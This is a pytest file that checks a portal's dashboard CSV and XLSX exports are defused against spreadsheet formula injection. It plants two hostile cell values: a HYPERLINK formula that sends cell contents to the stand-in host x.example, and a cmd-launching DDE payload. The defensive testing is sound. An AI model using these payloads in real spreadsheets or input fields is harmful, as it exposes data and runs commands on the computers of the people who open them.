"""Check 21 — spreadsheet formulas in exports.

The check demands that a name such as `=HYPERLINK("http://x.example/?"&A1,"Bấm")` comes out of a CSV export as text
with a leading apostrophe (`'=HYPERLINK…`) and out of an XLSX export as a string cell (`data_type == "s"`), never a
formula, while a negative number stays a number.

The portal's exports are the leaders' dashboard tables and drill-down lists (stats/exports.py). They hold no personal
names (docs/dashboard.md), so the formula is planted where an attacker could write free text that reaches them: an
agency's name and a procedure's name (each of the four formula signs = + - @ is used). Every table and the drill-down
are exported in both formats and read back: with openpyxl for XLSX (no cell is a formula, each planted name is a
string cell) and with the csv module for CSV (no cell starts with a formula sign). The writers are then given a
negative number and a text starting with a minus to show that only text is defused. The downloads are attachments
under `Content-Security-Policy: sandbox`.
"""
# The dashboard's fixtures are imported; a test's parameter of the same name is how they are used.
# ruff: noqa: F811

import csv
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from agencies.models import Agency
from procedures.models import ProcedureVersion
from stats.exports import csv_response, xlsx_response
from tests.dossiers.conftest import (  # noqa: F401 - fixtures
    COMMUNE,
    agencies,
    applicant_for,
    at,
    make_version,
    people,
    receive,
)
from tests.stats.dashboard_world import NOW, world  # noqa: F401 - fixture

pytestmark = pytest.mark.django_db

EXPORT = reverse("dashboard:export")
MARCH = {"from": "2026-03-01", "to": "2026-03-20"}
HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
PROCEDURE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_SIGNS = ("=", "+", "-", "@")


@pytest.fixture(autouse=True)
def _clock():
    with time_machine.travel(at(NOW), tick=False):
        yield


@pytest.fixture
def planted(world):
    Agency.objects.filter(e_identifier=COMMUNE).update(name=HYPERLINK)
    ProcedureVersion.objects.filter(pk=world.version.pk).update(name=PROCEDURE)
    return world


def export(client, planted, **params):
    client.force_login(planted.people["leader"])
    response = client.get(EXPORT, MARCH | params)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Security-Policy"] == "sandbox"
    return response


TABLES = [
    {"table": "agency"},
    {"table": "field"},
    {"table": "procedure"},
    {"table": "channel"},
    {"table": "drill", "measure": "received"},
]


@pytest.mark.parametrize("params", TABLES, ids=lambda p: p["table"])
def test_xlsx_exports_hold_no_formula_and_the_planted_names_as_strings(client, planted, params):
    response = export(client, planted, format="xlsx", **params)
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    planted_cells = [cell for cell in cells if cell.value in (HYPERLINK, PROCEDURE)]
    if params["table"] in ("agency", "procedure", "drill"):
        assert planted_cells
    assert all(cell.data_type == "s" for cell in planted_cells)


@pytest.mark.parametrize("params", TABLES, ids=lambda p: p["table"])
def test_csv_exports_start_no_cell_with_a_formula_sign(client, planted, params):
    text = export(client, planted, format="csv", **params).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_SIGNS)]
    if params["table"] in ("agency", "drill"):
        assert f"'{HYPERLINK}" in cells
    if params["table"] in ("procedure", "drill"):
        assert f"'{PROCEDURE}" in cells


def test_a_negative_number_stays_a_number_and_a_minus_text_is_defused():
    rows = [["-5 ngày", -5, -2.5, "Hộ tịch"]]
    text = csv_response(filename="x", header=["a", "b", "c", "d"], rows=rows).content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["'-5 ngày", "-5", "-2.5", "Hộ tịch"]

    content = xlsx_response(filename="x", title="t", header=["a", "b", "c", "d"], rows=rows).content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    text_cell, integer, decimal, plain = next(sheet.iter_rows(min_row=2, max_row=2))
    assert (text_cell.value, text_cell.data_type) == ("-5 ngày", "s")
    assert (integer.value, integer.data_type) == (-5, "n")
    assert (decimal.value, decimal.data_type) == (-2.5, "n")
    assert (plain.value, plain.data_type) == ("Hộ tịch", "s")
